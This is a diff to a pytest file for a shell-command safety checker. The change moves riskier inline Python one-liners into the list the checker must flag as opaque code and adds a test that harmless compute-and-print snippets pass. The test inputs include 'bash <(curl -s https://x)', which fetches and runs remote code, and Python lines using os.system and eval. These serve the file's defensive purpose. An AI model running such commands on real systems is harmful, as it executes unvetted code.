@@ -478,10 +478,11 @@ def test_nesting_deeper_than_the_limit() -> None:
         "bash",
         "bash <(curl -s https://x)",
         "bash <<EOF\nls\nEOF",
-        "python -c 'print(1)'",
-        "python3 -c 'print(1)'",
-        "python3.11 -Bc 'print(1)'",
-        "/usr/bin/python3 -c 'print(1)'",
+        "python -c 'import os; os.system(\"id\")'",
+        "python3 -c 'print(open(\"notes.txt\").read())'",
+        "python3.11 -Bc '__import__(\"os\")'",
+        "/usr/bin/python3 -c 'eval(x)'",
+        'python3 -c "$CODE"',
         "perl -e 'print 1'",
         "perl -ne 'print' f",
         "node -e 'x'",
@@ -505,6 +506,21 @@ def test_opaque_code_is_never_clean(line: str) -> None:
     got = [c for c in concerns(line) if c.id == "opaque-code"]
     assert got
     assert all(c.overridable for c in got)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "python -c 'print(1)'",
+        "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"version\"])' < package.json",
+        "python3.11 -Bc 'import sys; print(sys.version_info[:2])'",
+        "/usr/bin/python3 -c 'import os; print(os.getcwd())'",
+    ],
+)
+def test_python_code_that_only_computes_and_prints_is_no_opaque_code(line: str) -> None:
+    """Inline Python is read as a program (effects/pyprog.py): what only computes, reads
+    stdin and prints runs no code guard cannot see."""
+    assert "opaque-code" not in ids(line)
 
 
 def test_eval_and_trap_strings_are_analysed_too() -> None:
